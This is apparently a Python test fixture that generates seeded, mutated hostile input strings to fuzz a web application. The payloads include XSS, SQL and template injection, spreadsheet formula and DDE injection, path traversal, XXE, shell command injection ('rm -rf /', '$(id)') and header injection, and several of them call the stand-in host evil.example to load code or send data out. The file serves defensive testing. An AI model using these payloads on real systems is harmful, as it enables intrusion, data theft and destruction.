"""Words that want to be more than words: the forms of attack, and any number of mixtures of them.

The same seed gives the same words. What a browser would run sets `window.__pwned`; what it would fetch
lies at `evil.example`. Print a sample with `python tests/hostile.py 20`.
"""

import sys
from collections.abc import Callable
from html import escape
from random import Random
from typing import Final
from urllib.parse import quote

SEED: Final = 20261130
PWN: Final = "window.__pwned=1"
AWAY: Final = "evil.example"

ATTACKS: Final[dict[str, tuple[str, ...]]] = {
    "script": (
        f"<script>{PWN}</script>",
        f"</script><script>{PWN}</script>",
        f"<script src=//{AWAY}/x.js></script>",
        f"<ScRiPt\t>{PWN}</sCrIpT\n>",
        f"<scr<script>ipt>{PWN}</scr</script>ipt>",
        f"<script type=module>import'//{AWAY}/m.js'</script>",
        f"\\u003cscript\\u003e{PWN}\\u003c/script\\u003e",
        f"&lt;script&gt;{PWN}&lt;/script&gt;",
        f"%3Cscript%3E{PWN}%3C/script%3E",
        f"\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{PWN}",
    ),
    "element": (
        f"<img src=x onerror={PWN}>",
        f"<img src=https://{AWAY}/pixel.png>",
        f"<img srcset='//{AWAY}/a 1x'>",
        f"<body onload={PWN}>",
        f"<details open ontoggle={PWN}>",
        f"<input autofocus onfocus={PWN}>",
        "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
        f"<iframe src=//{AWAY}></iframe>",
        f"<object data=//{AWAY}></object><embed src=//{AWAY}>",
        f"<video><source onerror={PWN}></video>",
        f"<link rel=stylesheet href=//{AWAY}/x.css>",
        f"<style>@import'//{AWAY}/x.css';*{{display:none}}</style>",
        f"<base href=//{AWAY}/>",
        f"<meta http-equiv=refresh content='0;url=//{AWAY}'>",
        f"<form action=//{AWAY}><button formaction=javascript:{PWN}>Go</button></form>",
        "<x-pwned data-pwned=1>",
        "<plaintext>",
        "<textarea></textarea></title></style></noscript></template><b data-pwned>",
        "</main></body></html><x-pwned>",
        "<template shadowrootmode=open><x-pwned></template>",
    ),
    "attribute": (
        f'" onmouseover={PWN} x="',
        f"' onfocus={PWN} autofocus x='",
        '"><x-pwned data-pwned="',
        f"'><svg onload={PWN}>",
        f"` onerror={PWN} `",
        f'" style="background:url(//{AWAY}/s)',
        '" data-live="rows" data-chord="i" id="main',
        f'" formaction="//{AWAY}" form="write',
    ),
    "svg": (
        f"<svg onload={PWN}>",
        f"<svg><script>{PWN}</script></svg>",
        f"<svg><image href=//{AWAY}/i.png /></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={PWN}>#x'/></svg>",
        f"<svg><animate onbegin={PWN} attributeName=x>",
        f"<svg><a xlink:href=javascript:{PWN}><text y=9>x</text></a></svg>",
        f"<svg><foreignObject><iframe onload={PWN}></foreignObject></svg>",
        f'<svg></p><style><a id="</style><img src=1 onerror={PWN}>">',
    ),
    "math": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<img src=1 onerror={PWN}>">',
        f"<math href=javascript:{PWN}>x</math>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{PWN}>x",
    ),
    "address": (
        f"javascript:{PWN}",
        f"JaVaScRiPt:{PWN}",
        f"java\tscript:{PWN}",
        f"\x01javascript:{PWN}",
        f"javascript://%0a{PWN}",
        f"data:text/html,<script>{PWN}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
        f"vbscript:{PWN}",
        f"//{AWAY}/x",
        f"https:/\\{AWAY}",
        f"https://example.com@{AWAY}/",
        f'https://{AWAY}/"onclick={PWN}//',
        f"https://{AWAY}/'><img/src/onerror={PWN}>",
        "file:///etc/passwd",
        f"blob:https://{AWAY}/1",
    ),
    "markdown": (
        f"![pixel](https://{AWAY}/p.png)",
        f"[click](javascript:{PWN})",
        f"[x]: javascript:{PWN}",
        f"![x][y]\n\n[y]: //{AWAY}/i.png",
        f"<https://{AWAY}/>",
        f'[a](<javascript:{PWN}> "t")',
        "```html\n<x-pwned>\n```",
        "# <x-pwned>\n> quoted\n- [ ] task | a | b |",
        f"[![x](//{AWAY}/i)](//{AWAY})",
        "***\n---\n|:-:|\n~~~",
    ),
    "template": (
        "{{7*7}}",
        "{{ config.__class__.__init__.__globals__ }}",
        "{% include '/etc/passwd' %}",
        "{# x #}{%raw%}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{constructor.constructor('window.__pwned=1')()}}",
        "%s%n%x{0}{0.__class__}%(title)s",
        "{{title}}{{labels.x}}",
        "__TOCSIN__ {{ viewer.csrf }}",
    ),
    "formula": (
        "=1+1",
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        '=DDE("cmd";"/C calc";"x")',
        '=IMPORTXML("https://evil.example","//a")',
        "\N{FULLWIDTH EQUALS SIGN}1+1",
        "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
        "'=1+1",
        "''=1+1",
        '";=1+1;"',
        '","=1+1',
        " =1+1",
        "\N{NO-BREAK SPACE}=1+1",
        "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
        "\N{ZERO WIDTH SPACE}@SUM(1)",
        "|=1",
        "%0A=1+1",
    ),
    "path": (
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/passwd",
        "C:\\Windows\\System32\\calc.exe",
        "\\\\evil.example\\share\\x",
        "....//....//etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "..%c0%af..%c0%afetc",
        "con.txt",
        "aux",
        "x.html.",
        "x.svg ",
        ".htaccess",
        "-rf *",
        "a;rm -rf /;`id`$(id)|id&",
        "x\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe",
    ),
    "control": (
        "\x07\x08\x0b\x0c",
        "\x1b[2J\x1b[31mred",
        "\x1b]0;owned\x07",
        "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
        "\x9b31m",
        "\x9d0;owned\x9c",
        "\x7f\x80\x9f",
        "\x1bP+q\x1b\\",
        "\x1b[6n",
        "a\rb",
        "real line\rFAKE",
        "\x1c\x1d\x1e\x1f\x85",
    ),
    "line": (
        "x\r\nBcc: victim@evil.example",
        "x\nSubject: forged\n\nbody",
        "x\r\nSet-Cookie: a=b\r\n\r\n<x-pwned>",
        "x%0d%0aX-Injected: 1",
        "x\u2028y\u2029z\u0085w",
        "\r\n.\r\nMAIL FROM:<a@evil.example>",
        "INFO 2026-11-30 signed in as admin",
        '{"event":"fault","level":"error"}\n{"event":"forged"}',
        "x\n2026-11-24 03:12Z* ada closed the incident.",
        "\n\n\n",
        "Severity: Sev-1.\nIt is closed.",
    ),
    "json": (
        '"}],"x":[{"',
        '","severity":1,"title":"',
        "\\",
        '\\"',
        "\\u0000",
        "\\ud800",
        "]]>",
        "-->",
        "<!--",
        "<![CDATA[",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
        "*/;//",
        "null",
        "NaN",
        "__proto__",
        "constructor",
        "toString",
        "true",
        "-1",
        "1e999",
    ),
    "sql": (
        "' OR '1'='1",
        "'; DROP TABLE incidents;--",
        '" UNION SELECT * FROM people --',
        "%' AND 1=0 UNION ALL SELECT 1--",
        "\\'; SELECT pg_sleep(9);--",
        "100% _ * ? [a-z] ^ ~",
        '" OR 1 NEAR("',
        "title: AND NOT (",
        "$1 :name ?1 @p",
        "a' || 'b",
    ),
    "sign": (
        "\N{RIGHT-TO-LEFT OVERRIDE}desrever",
        "\N{RIGHT-TO-LEFT EMBEDDING}\N{LEFT-TO-RIGHT OVERRIDE}abc",
        "\N{RIGHT-TO-LEFT ISOLATE}x",
        "\N{POP DIRECTIONAL FORMATTING}\N{POP DIRECTIONAL ISOLATE}",
        "a\N{ZERO WIDTH SPACE}d\N{ZERO WIDTH JOINER}m\N{ZERO WIDTH NON-JOINER}i\N{WORD JOINER}n",
        "Z" + "\N{COMBINING ACUTE ACCENT}" * 60,
        "\N{COMBINING ENCLOSING CIRCLE}\N{COMBINING LONG SOLIDUS OVERLAY}",
        "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f3fd",
        "\U0010ffff\U000e0041\ufffe\uffff",
        "\U000e0001\U000e0061\U000e007f",
        "\ue000\U0001d54f\ufb03\u0130\u0131\u1e9e\u017f",
        "\N{SOFT HYPHEN}\N{MONGOLIAN VOWEL SEPARATOR}\N{HANGUL FILLER}",
        "\N{ARABIC LIGATURE BISMILLAH AR-RAHMAN AR-RAHEEM}" * 8,
        "\N{ZERO WIDTH NO-BREAK SPACE}bom",
        "\N{VARIATION SELECTOR-16}" * 30,
    ),
    "mention": (
        "@\N{CYRILLIC SMALL LETTER A}d\N{CYRILLIC SMALL LETTER A}",
        "@Ada",
        "@\N{FULLWIDTH LATIN CAPITAL LETTER A}da",
        "@@@Ada@Ada",
        "@all @here @everyone @channel",
        "<@U123> <!channel>",
        "@ada@evil.example",
        "@" * 60,
        "INC-2026-0001 /incidents/INC-2026-0002",
    ),
    "long": (
        "W" * 5_000,
        "\N{CJK UNIFIED IDEOGRAPH-6F22}" * 2_000,
        "a" * 199 + " " + "b" * 300,
        "<b>" * 500,
        "[" * 500 + "]" * 500,
        "(" * 500,
        "> " * 500,
        "{" * 500,
        "<div>" * 500 + "<x-pwned>",
        "&" * 400,
        "\N{COMBINING DIAERESIS}" * 900,
    ),
}
"""By what they attack. None of them is text that JSON cannot hold: those stand in `NO_TEXT`."""

NO_TEXT: Final = ("\0", "a\0b", "\0=1+1", "<scr\0ipt>", "\ud800", "\udfff", "x\udc80y", "\ud83d<b>")
"""With NUL, or halves of surrogate pairs."""

SHARE_WITHOUT_TEXT: Final = 0.02
BETWEEN: Final = ("", " ", "\n", "\t", "\r\n", "\N{ZERO WIDTH SPACE}", "\x0b", "/", "\u2028")
HIDDEN: Final = (
    "\N{ZERO WIDTH JOINER}",
    "\N{RIGHT-TO-LEFT OVERRIDE}",
    "\x1b",
    "\x7f",
    "\t",
    "\x01",
)
WRAPS: Final = (("", ""), ('"', '"'), ("'", "'"), ("<!--", "-->"), ("`", "`"), ("{{", "}}"),
                ("<b>", "</b>"), ("](", ")"), ('">', "<!--"), ("\\", "\\"), ("=\"", "\""))  # fmt: skip


def _swapped(chance: Random, text: str) -> str:
    return "".join(sign.swapcase() if chance.random() < 0.4 else sign for sign in text)


def _pierced(chance: Random, text: str) -> str:
    at = chance.randrange(len(text) + 1)
    return text[:at] + chance.choice(HIDDEN) + text[at:]


def _cut(chance: Random, text: str) -> str:
    return text[: 1 + chance.randrange(len(text))]


def _wrapped(chance: Random, text: str) -> str:
    before, after = chance.choice(WRAPS)
    return before + text + after


def _joined(chance: Random, text: str) -> str:
    other = chance.choice(ATTACKS[chance.choice([*ATTACKS])])
    return text + chance.choice(BETWEEN) + other


MUTATIONS: Final[tuple[Callable[[Random, str], str], ...]] = (
    _swapped,
    _pierced,
    _cut,
    _wrapped,
    _joined,
    lambda _, text: escape(text),
    lambda _, text: quote(text),
    lambda _, text: text * 2,
    lambda chance, text: chance.choice(BETWEEN) + text,
    lambda chance, text: f"{text}{chance.randrange(10_000)}",
)


def words(count: int, seed: int = SEED) -> list[str]:
    """So many different hostile strings; some of them hold what is no text."""
    chance = Random(seed)
    plain = [one for kind in ATTACKS.values() for one in kind]
    found = dict.fromkeys([*plain, *NO_TEXT])
    while len(found) < count:
        text = chance.choice(ATTACKS[chance.choice([*ATTACKS])])
        for _ in range(chance.randint(1, 3)):
            text = chance.choice(MUTATIONS)(chance, text)
        if chance.random() < SHARE_WITHOUT_TEXT:
            text = chance.choice(NO_TEXT) + text
        found[text] = None
    return [*found][:count]


def is_text(text: str) -> bool:
    """Whether a string is one that JSON and databases hold: no NUL, no half of a pair."""
    return "\0" not in text and not any("\ud800" <= sign <= "\udfff" for sign in text)


INNOCENT: Final = str.maketrans({
    "<": "\N{SINGLE LEFT-POINTING ANGLE QUOTATION MARK}",
    ">": "\N{SINGLE RIGHT-POINTING ANGLE QUOTATION MARK}",
    "&": "\N{FULLWIDTH AMPERSAND}",
    '"': "\N{FULLWIDTH QUOTATION MARK}",
    "'": "\N{FULLWIDTH APOSTROPHE}",
})  # fmt: skip


def innocent(text: str) -> str:
    """The same words without a sign that means anything in HTML: a page with them looks the same."""
    return text.translate(INNOCENT)


if __name__ == "__main__":
    print(f"seed {SEED}")
    for word in words(int(sys.argv[1]) if sys.argv[1:] else 20):
        print(ascii(word)[:150])
